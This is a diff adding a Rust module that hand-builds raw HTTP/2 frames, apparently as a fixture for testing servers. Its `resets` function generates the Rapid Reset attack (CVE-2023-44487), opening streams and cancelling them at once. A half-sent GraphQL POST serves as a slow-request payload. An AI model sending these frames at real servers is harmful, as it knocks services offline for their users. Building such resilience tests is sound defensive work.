@@ -1,0 +1,53 @@
+//! Frames of HTTP/2 (RFC 9113, section 4.1), as no library would send them.
+
+/// Kinds of frames.
+pub const DATA: u8 = 0;
+/// Begins a request.
+pub const HEADERS: u8 = 1;
+/// Ends one early.
+pub const RST_STREAM: u8 = 3;
+/// Of the connection; to be acknowledged.
+pub const SETTINGS: u8 = 4;
+/// To be answered.
+pub const PING: u8 = 6;
+/// More headers.
+pub const CONTINUATION: u8 = 9;
+/// The flag that headers are complete.
+pub const END_HEADERS: u8 = 4;
+
+/// `:method POST`, `:scheme http`, `:path /`, `:authority x`, by the static table of HPACK (RFC 7541, appendix A).
+pub const POST: [u8; 6] = [0x83, 0x86, 0x84, 0x41, 0x01, b'x'];
+
+/// The same to `/graphql`, of JSON: a request that waits for its body.
+pub const BEGUN_POST: &[u8] = b"\x83\x86\x41\x01x\x04\x08/graphql\x0f\x10\x10application/json";
+
+/// One frame. Payloads are far below the bound of a length.
+pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
+    let mut bytes: Vec<u8> = length.into_iter().skip(1).collect();
+    bytes.extend_from_slice(&[kind, flags]);
+    bytes.extend_from_slice(&stream.to_be_bytes());
+    bytes.extend_from_slice(payload);
+    bytes
+}
+
+/// The preface and empty settings.
+pub fn preface() -> Vec<u8> {
+    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    bytes.extend(frame(SETTINGS, 0, 0, &[]));
+    bytes
+}
+
+/// Odd numbers, as clients count their streams.
+pub fn streams(count: u32) -> impl Iterator<Item = u32> {
+    (0..count).map(|n| 2 * n + 1)
+}
+
+/// Streams opened and reset at once (CVE-2023-44487).
+pub fn resets(count: u32) -> impl Iterator<Item = Vec<u8>> {
+    streams(count).map(|stream| {
+        let mut bytes = frame(HEADERS, END_HEADERS, stream, &POST);
+        bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
+        bytes
+    })
+}
